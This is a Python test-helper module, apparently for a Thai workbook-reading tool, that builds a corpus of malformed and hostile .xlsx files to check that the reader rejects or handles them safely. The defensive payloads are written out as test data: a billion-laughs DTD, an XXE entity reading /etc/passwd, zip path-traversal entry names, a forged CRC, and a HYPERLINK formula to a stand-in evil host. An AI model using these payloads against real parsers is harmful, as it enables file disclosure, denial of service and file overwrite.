    "xl/worksheets/sheet4.xml",
    "xl/worksheets/sheet5.xml",
    "docProps/custom.xml",
    "docProps/core.xml",
    "docProps/app.xml",
)
MEASURES_PART, LOG_PART = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
LAUGHS_DTD = b"""<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>"""
XXE_DTD = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def real_workbook(division: str = "finance") -> bytes:
    """The bytes of a division's returned workbook in samples/6m."""
    [path] = SAMPLES_6M.glob(f"ITA*_6m_{division}_*.xlsx")
    return path.read_bytes()


def older(data: bytes) -> bytes:
    """``data`` as if saved a day before the samples (docProps/core.xml's modified time)."""

    def edit(name: str, part: bytes) -> bytes:
        if name != "docProps/core.xml":
            return part
        return re.sub(rb"(<dcterms:modified\b[^>]*>)[^<]*", rb"\g<1>" + OLDER, part, count=1)

    return rezip(data, edit)


def edit_part(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """``data`` with one part passed through ``change``."""
    return rezip(data, lambda name, body: change(body) if name == part else body)


def clerk_edit(data: bytes, change: Callable[[object], None]) -> bytes:
    """Open ``data`` with openpyxl, let ``change`` edit the workbook, save it (as a clerk's tool)."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def input_cell(book, name: str, measure_id: str):
    """The cell of defined name ``name`` in the row of ``measure_id`` (found through the names)."""
    from ita_xlsx.read import layout

    id_sheet, id_ref = next(iter(book.defined_names[layout.NAME_MEASURE_ID].destinations))
    row = next(r[0].row for r in book[id_sheet][id_ref.replace("$", "")] if r[0].value == measure_id)
    return book[id_sheet][f"{_name_column(book, name)}{row}"]


def log_cell(book, name: str, row: int):
    """The cell of log column ``name`` (a defined name) in sheet row ``row``."""
    sheet, _ = next(iter(book.defined_names[name].destinations))
    return book[sheet][f"{_name_column(book, name)}{row}"]


def _name_column(book, name: str) -> str:
    _, ref = next(iter(book.defined_names[name].destinations))
    return re.match(r"[A-Z]+", ref.replace("$", "")).group()


def as_text(cell, value: str) -> None:
    """Put ``value`` in ``cell`` as a string even when it starts with '=' (as pasted text is)."""
    cell.value = value
    cell.data_type = "s"


def with_dtd(body: bytes, dtd: bytes, reference: bytes) -> bytes:
    """A part with ``dtd`` after its XML declaration and ``reference`` inside its root element."""
    declaration = re.match(rb"\s*<\?xml[^>]*\?>", body)
    at = declaration.end() if declaration else 0
    close = body.rfind(b"</")
    return body[:at] + b"\n" + dtd + body[at:close] + reference + body[close:]


def in_utf16(body: bytes) -> bytes:
    """A part declared and encoded as UTF-16 (with a byte-order mark): legal XML."""
    text = body.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return b"\xff\xfe" + text.encode("utf-16-le")


def bad_byte_in_first_string(body: bytes) -> bytes:
    """A UTF-8 part with a byte that is not UTF-8 inside its first text."""
    at = body.index(b"<t>") + len(b"<t>") + 3
    return body[:at] + b"\xff" + body[at:]


# --- the expected outcome of a corpus case ------------------------------------------------


@dataclass(frozen=True)
class Expect:
    """What ``collect.read_inputs`` must make of one corpus file, read on its own.

    ``code`` set: rejected with that error (at intake or when read), naming ``part`` if given.
    Otherwise accepted as ``division``'s workbook with exactly the problem ``codes``, and the
    entries and log of that division's sample workbook changed by ``changes`` (measure id →
    field → value), ``log_changes`` (log index → field → value) and ``log_added`` (entries after
    the sample's log).
    """

    code: str | None = None
    part: str | None = None
    division: str = "finance"
    codes: frozenset[str] = frozenset()
    changes: Mapping[str, Mapping[str, object]] = field(default_factory=dict)
    log_changes: Mapping[int, Mapping[str, object]] = field(default_factory=dict)
    log_added: tuple[Mapping[str, object], ...] = ()

    @property
    def accepted(self) -> bool:
        return self.code is None

    def describe(self) -> str:
        if self.code:
            return f"rejected {self.code}" + (f" ({self.part})" if self.part else "")
        changed = sorted({f"{m}.{f}" for m, fs in self.changes.items() for f in fs})
        changed += [f"log[{i}].{f}" for i, fs in self.log_changes.items() for f in fs]
        return f"accepted {self.division} {sorted(self.codes) or '[]'}" + (
            f", changed {', '.join(changed)}" if changed else ", records as the sample"
        )


def rejected(code: str, part: str | None = None) -> Expect:
    return Expect(code=code, part=part)


def accepted(division: str = "finance", codes: Iterable[str] = (), **changes) -> Expect:
    return Expect(division=division, codes=frozenset(codes), **changes)


@dataclass(frozen=True)
class CorpusCase:
    name: str  # the quirk: test id, and the stem of the file unless the builder names it
    build: Callable[[Path], Path]
    expect: Expect


def _bytes_case(name: str, file: str, make: Callable[[], bytes], expect: Expect) -> CorpusCase:
    return CorpusCase(name, lambda folder: _write(folder, file, make()), expect)


def _injection_case(number: int, value: str) -> CorpusCase:
    """Every input column of measure i7, and of the first log row, holds ``value`` as text."""
    from ita_xlsx.read import layout

    def change(book) -> None:
        for name in layout.INPUT_NAMES:
            as_text(input_cell(book, name, "i7"), value)
        for name in (layout.NAME_LOG_DATE, layout.NAME_LOG_DETAIL, layout.NAME_LOG_EVIDENCE):
            as_text(log_cell(book, name, 4), value)
        as_text(log_cell(book, layout.NAME_LOG_MEASURE, 203), value)  # the last (empty) log row

    kept = value.strip()  # free text is kept, trimmed; a CR has become LF in the XML anyway
    expect = accepted(
        codes=("status-unknown", "date-unparseable", "log-unknown-measure"),
        changes={"i7": {"status": None, "action_date": None, "result": kept, "evidence": kept, "note": kept}},
        log_changes={0: {"date": None, "detail": kept, "evidence": kept}},
    )
    return _bytes_case(
        f"formula-injection-{number}",
        f"formula-injection-{number}.xlsx",
        lambda: older(clerk_edit(real_workbook(), change)),
        expect,
    )


def _doctype_case(kind: str, part: str) -> CorpusCase:
    dtd, reference = (LAUGHS_DTD, b"&lol9;") if kind == "billion-laughs" else (XXE_DTD, b"&xxe;")
    name = f"{kind}-in-{part.replace('/', '_').replace('[', '').replace(']', '')}"
    return _bytes_case(
        name,
        f"{name}.xlsx",
        lambda: edit_part(real_workbook(), part, lambda body: with_dtd(body, dtd, reference)),
        rejected("xml-doctype-forbidden", part),
    )


def _encrypted_real() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(real_workbook())).encrypt("รหัสผ่าน1234", locked)
    return locked.getvalue()


def _strict_real() -> bytes:
    swaps = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
    }

    def edit(name: str, data: bytes) -> bytes:
        for old, new in swaps.items():
            data = data.replace(old, new)
        return data

    return rezip(real_workbook(), edit)


def _real_entries() -> list[Entry]:
    with zipfile.ZipFile(io.BytesIO(real_workbook())) as source:
        return [Entry(info.filename, source.read(info)) for info in source.infolist()]


def _crc_lie() -> bytes:
    entries = _real_entries()
    for entry in entries:
        if entry.name == MEASURES_PART:
            entry.crc = zlib.crc32(entry.data) ^ 0x5A5A5A5A
    return zip_bytes(entries)


def _truncated_real() -> bytes:
    data = real_workbook()
    return data[: len(data) * 2 // 3]


def _last_log_row(book) -> None:
    """A log entry typed into the sheet's last row, 1,048,576 (outside the log's names)."""
    sheet = book["บันทึกการดำเนินการ"]
    sheet.cell(row=1048576, column=2, value="i7")
    sheet.cell(row=1048576, column=4, value="แถวสุดท้ายของแผ่นงาน")


def _huge_dimension(data: bytes) -> bytes:
    for part in (MEASURES_PART, LOG_PART):
        data = edit_part(
            data,
            part,
            lambda body: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', body),
        )
    return data


def _epoch_1904(book) -> None:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book.epoch = CALENDAR_MAC_1904  # openpyxl rewrites every date as a 1904-based serial


def _long_result(book) -> None:
    from ita_xlsx.read import layout

    as_text(input_cell(book, layout.NAME_RESULT, "i7"), LONG_TEXT)


def _live_formula(book) -> None:
    """A real formula (not text) in a result cell, saved without a cached value."""
    from ita_xlsx.read import layout

    input_cell(book, layout.NAME_RESULT, "i7").value = '=HYPERLINK("http://evil.example/","คลิก")'


def _date_out_of_range(book) -> None:
    """A number far below any date in a date cell (python-calamine panics converting it)."""
    from ita_xlsx.read import layout

    input_cell(book, layout.NAME_ACTION_DATE, "i7").value = -1e15


def _with_macros(data: bytes) -> bytes:
    return rezip(data, add=[Entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really VBA")])


def _traversal(name: str) -> Callable[[], bytes]:
    return lambda: zip_bytes([*_real_entries(), Entry(name, b"owned")])


CORPUS: list[CorpusCase] = [
    # --- refused before any parser sees them
    CorpusCase("zip-bomb-1.1-GB-from-3-MB", real_bomb, rejected("intake-zip-bomb")),
    *(_doctype_case(kind, part) for kind in ("billion-laughs", "external-entity") for part in READ_PARTS),
    _bytes_case("truncated", "ตัดท้าย กองคลัง.xlsx", _truncated_real, rejected("intake-truncated")),
    _bytes_case("crc-damaged", "crc damaged.xlsx", _crc_lie, rejected("intake-truncated")),
    _bytes_case(
        "duplicate-entry-name",
        "duplicate entry.xlsx",
        lambda: zip_bytes([*_real_entries(), Entry(MEASURES_PART, b"<worksheet/>")]),
        rejected("intake-zip-duplicate-name"),
    ),
    _bytes_case(
        "path-traversal-entry",
        "traversal.xlsx",
        _traversal("../../../../tmp/ita-owned.txt"),
        rejected("intake-zip-unsafe-name"),
    ),
    _bytes_case(
        "backslash-traversal-entry",
        "traversal-backslash.xlsx",
        _traversal("xl\\..\\..\\..\\evil.xml"),
        rejected("intake-zip-unsafe-name"),
    ),
    _bytes_case(
        "encrypted-real-workbook", "รหัสผ่าน กองคลัง.xlsx", _encrypted_real, rejected("intake-encrypted")
    ),
    CorpusCase("old-xls", xls_ole, rejected("intake-xls")),
    CorpusCase("xlsb", xlsb_shaped, rejected("intake-xlsb")),
    CorpusCase("ods", ods_shaped, rejected("intake-ods")),
    _bytes_case("strict-ooxml", "strict กองคลัง.xlsx", _strict_real, rejected("intake-strict-ooxml")),
    CorpusCase("zero-bytes", empty_file, rejected("intake-empty")),
    CorpusCase("pdf-named-xlsx", pdf_renamed_xlsx, rejected("intake-pdf")),
    # --- refused by the reader
    _bytes_case(
        "invalid-utf8-byte-in-sharedStrings",
        "bad byte.xlsx",
        lambda: edit_part(real_workbook(), "xl/sharedStrings.xml", bad_byte_in_first_string),
        rejected("xml-malformed"),
    ),
    # --- accepted, read right
    _bytes_case(
        "thai-name-with-spaces",
        "ผลการดำเนินงาน สำนักปลัด ฉบับแก้ไข ล่าสุด.xlsx",
        lambda: older(real_workbook("palad")),
        accepted("palad"),
    ),
    _bytes_case(
        "xlsx-named-pdf", "แบบรายงาน กองช่าง.pdf", lambda: older(real_workbook("works")), accepted("works")
    ),
    _bytes_case(
        "xlsm-with-macros",
        "กองการศึกษา มีมาโคร.xlsm",
        lambda: older(_with_macros(real_workbook("education"))),
        accepted("education", ["intake-macros"]),
    ),
    _bytes_case(
        "utf16-sharedStrings",
        "utf16 strings.xlsx",
        lambda: older(edit_part(real_workbook(), "xl/sharedStrings.xml", in_utf16)),
        accepted(),
    ),
    _bytes_case(
        "log-row-1048576",
        "log row 1048576.xlsx",
        lambda: older(clerk_edit(real_workbook(), _last_log_row)),
        accepted(  # read, however far below the table: nothing typed is dropped in silence
            codes=["log-below-table", "log-date-missing"],
            log_added=({"measure_id": "i7", "date": None, "detail": "แถวสุดท้ายของแผ่นงาน", "evidence": ""},),
        ),
    ),
    _bytes_case(
        "huge-dimension", "huge dimension.xlsx", lambda: older(_huge_dimension(real_workbook())), accepted()
    ),
    _bytes_case(
        "cell-of-32767-characters",
        "long result.xlsx",
        lambda: older(clerk_edit(real_workbook(), _long_result)),
        accepted(changes={"i7": {"result": LONG_TEXT}}),
    ),
    *(_injection_case(number, value) for number, value in enumerate(INJECTIONS, 1)),
    _bytes_case(
        "live-formula-without-cached-value",
        "formula.xlsx",
        lambda: older(clerk_edit(real_workbook(), _live_formula)),
        accepted(changes={"i7": {"result": ""}}),
    ),
    _bytes_case(
        "date-system-1904",
        "1904.xlsx",
        lambda: older(clerk_edit(real_workbook(), _epoch_1904)),
        accepted(),
    ),
    _bytes_case(
        "date-serial-out-of-range",
        "date -1e15.xlsx",
        lambda: older(clerk_edit(real_workbook(), _date_out_of_range)),
        accepted(codes=["date-unparseable"], changes={"i7": {"action_date": None}}),
    ),
]


def build_corpus(folder: Path) -> list[tuple[CorpusCase, Path]]:
    """Write every corpus case into ``folder``; each file name is unique."""
    folder.mkdir(parents=True, exist_ok=True)
    built = [(case, case.build(folder)) for case in CORPUS]
    paths = [path for _, path in built]
    assert len(set(paths)) == len(paths), "two corpus cases wrote the same file"
    return built


def many_returns(folder: Path, count: int) -> Path:
    """``count`` distinct returned workbooks (the five samples, each saved at another minute)."""
    folder.mkdir(parents=True, exist_ok=True)
    divisions = ("palad", "finance", "works", "education", "audit")
    for number in range(count):
        stamp = b"2022-10-01T%02d:%02d:00Z" % (9 + number // 60 % 12, number % 60)
        data = rezip(
            real_workbook(divisions[number % 5]),
            lambda name, body, stamp=stamp: (
                re.sub(rb"(<dcterms:modified\b[^>]*>)[^<]*", rb"\g<1>" + stamp, body, count=1)
                if name == "docProps/core.xml"
                else body
            ),
        )
        _write(folder, f"{number:04d} {divisions[number % 5]}.xlsx", data)
    return folder


# === regression files (tests/regressions/): each named after the quirk that broke the reader ===


def _append_row(ref: str, text: str = "x") -> Callable[[bytes], bytes]:
    row = re.sub(r"\D", "", ref)
    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c></row>'.encode()
    return lambda body: body.replace(b"</sheetData>", cell + b"</sheetData>", 1)


def _drop_target(body: bytes) -> bytes:
    """The measures sheet's relationship without its Target attribute."""
    return (
        re.sub(rb'(<Relationship\b[^>]*Id="rId2"[^>]*?) Target="[^"]*"', rb"\1", body)
        if b'Id="rId2"' in body
        else body
    )


def _column_map_not_a_letter(book) -> None:
    """The status name lost, and the identity's column map giving '1' instead of a column letter."""
    from ita_xlsx.read import layout

    for row in book[layout.IDENTITY_SHEET].iter_rows():
        if row[0].value == "columns":
            row[1].value = row[1].value.replace(f"{layout.NAME_STATUS}=G", f"{layout.NAME_STATUS}=1")
    del book.defined_names[layout.NAME_STATUS]


def _row_map_ethiopic_digit(book) -> None:
    """A row-map cell of the identity sheet holding '፩' (a digit to str.isdigit, not to int())."""
    from ita_xlsx.read import layout

    sheet = book[layout.IDENTITY_SHEET]
    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == layout.ROW_MAP_HEADER[0])
    sheet.cell(row=header + 2, column=1).value = "፩"


def _utf16_sheets(data: bytes) -> bytes:
    return edit_part(edit_part(data, MEASURES_PART, in_utf16), LOG_PART, in_utf16)


REGRESSIONS: dict[str, Callable[[], bytes]] = {
    "sheet-relationship-without-target.xlsx": lambda: edit_part(
        real_workbook(), "xl/_rels/workbook.xml.rels", _drop_target
    ),
    "sheet-relationship-points-nowhere.xlsx": lambda: edit_part(
        real_workbook(), "xl/_rels/workbook.xml.rels", lambda b: b.replace(b"sheet2.xml", b"sheet99.xml", 1)
    ),
    "cell-at-XFD1048576.xlsx": lambda: edit_part(real_workbook(), LOG_PART, _append_row("XFD1048576")),
    "measures-row-at-1048576.xlsx": lambda: edit_part(
        real_workbook(), MEASURES_PART, _append_row("K1048576")
    ),
    "measure-name-past-the-last-row.xlsx": lambda: edit_part(
        real_workbook(), "xl/workbook.xml", lambda b: b.replace(b"$B$4:$B$19<", b"$B$4:$B$9999999<", 1)
    ),
    "column-map-not-a-letter.xlsx": lambda: clerk_edit(real_workbook(), _column_map_not_a_letter),
    "column-map-not-a-letter-utf16-sheet.xlsx": lambda: _utf16_sheets(
        clerk_edit(real_workbook(), _column_map_not_a_letter)
    ),
    "identity-row-map-ethiopic-digit.xlsx": lambda: clerk_edit(real_workbook(), _row_map_ethiopic_digit),
    "utf16-sheet-parts.xlsx": lambda: _utf16_sheets(real_workbook()),
    "date-serial-out-of-range.xlsx": lambda: clerk_edit(real_workbook(), _date_out_of_range),
}


def write_regressions(folder: Path) -> list[Path]:
    """(Re)write the regression files; run when the template format changes."""
    folder.mkdir(parents=True, exist_ok=True)
    return [_write(folder, name, make()) for name, make in REGRESSIONS.items()]


# === running the tool on them: a child process, its time and its own peak memory ============


@dataclass
class ChildRun:
    returncode: int  # negative: killed by that signal
    stdout: str
    stderr: str
    seconds: float
    peak_rss_mb: float  # the command's peak RSS (and its workers'), 0 when it ran out of time
    timed_out: bool = False


# The command runs under a small wrapper that reports getrusage(RUSAGE_CHILDREN): measured from
# the test process itself (wait4, or its own RUSAGE_CHILDREN) the figure would include the test
# process's size, which Linux carries into a child's ru_maxrss across fork and exec.
_WRAPPER = """
import resource, subprocess, sys
code = subprocess.call(sys.argv[2:])
with open(sys.argv[1], "w") as report:
    report.write(f"{code} {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}")
"""


def run_measured(argv: list[str], timeout: float, env: dict[str, str] | None = None) -> ChildRun:
    """Run ``argv`` for at most ``timeout`` seconds; its exit code, output, time and peak RSS."""
    import os
    import signal
    import subprocess
    import sys
    import tempfile
    import time

    with tempfile.TemporaryDirectory(prefix="ita-run-") as folder:
        report, out_path, err_path = (Path(folder, name) for name in ("rusage", "stdout", "stderr"))
        started = time.perf_counter()
        with open(out_path, "wb") as out, open(err_path, "wb") as err:
            wrapper = subprocess.Popen(
                [sys.executable, "-c", _WRAPPER, str(report), *argv],
                stdout=out,
                stderr=err,
                env=env,
                start_new_session=True,  # one process group: a timeout kills the command too
            )
            try:
                wrapper.wait(timeout)
                timed_out = False
            except subprocess.TimeoutExpired:
                os.killpg(wrapper.pid, signal.SIGKILL)
                wrapper.wait()
                timed_out = True
        seconds = time.perf_counter() - started
        code, peak_kb = (-9, 0) if timed_out else map(int, report.read_text().split())
        return ChildRun(
            code,
            out_path.read_text(encoding="utf-8", errors="replace"),
            err_path.read_text(encoding="utf-8", errors="replace"),
            seconds,
            peak_kb / 1024,
            timed_out,
        )


def ita_xlsx_argv() -> list[str]:
    """The installed ``ita-xlsx`` command (the console script next to this Python)."""
    import sys

    script = Path(sys.executable).parent / "ita-xlsx"
    return [str(script)] if script.exists() else [sys.executable, "-m", "ita_xlsx"]


def assert_renders(problem) -> None:
    """A problem's code is in the catalogue and its message fills every placeholder, in both languages."""
    import string

    from ita_xlsx import messages

    assert messages.has(problem.code), problem.code
    for template in messages.catalogue()[problem.code]:
        wanted = {name for _, name, _, _ in string.Formatter().parse(template) if name}
        assert wanted <= set(problem.params), (problem.code, sorted(wanted - set(problem.params)))
    assert problem.message_th and problem.message_en


if __name__ == "__main__":
    for written in write_regressions(Path(__file__).resolve().parent / "regressions"):
        print(written)
